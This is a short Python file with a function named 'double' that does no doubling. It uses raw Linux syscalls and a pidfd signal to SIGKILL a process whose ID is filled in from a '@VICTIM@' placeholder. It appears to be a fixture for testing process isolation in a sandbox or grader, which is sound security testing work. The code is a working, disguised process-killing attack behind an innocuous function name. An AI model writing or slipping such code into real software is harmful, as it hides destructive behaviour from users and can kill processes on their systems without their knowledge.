import ctypes
import os
import signal


def double(x):
    libc = ctypes.CDLL(None, use_errno=True)
    info = ctypes.create_string_buffer(128)
    info[8:12] = (-1).to_bytes(4, "little", signed=True)
    pid = int("@VICTIM@")
    for call in ((234, pid, pid, 9), (200, pid, 9), (129, pid, 9, info)):
        libc.syscall(*call)
    try:
        signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
    except OSError:
        pass
    return 0
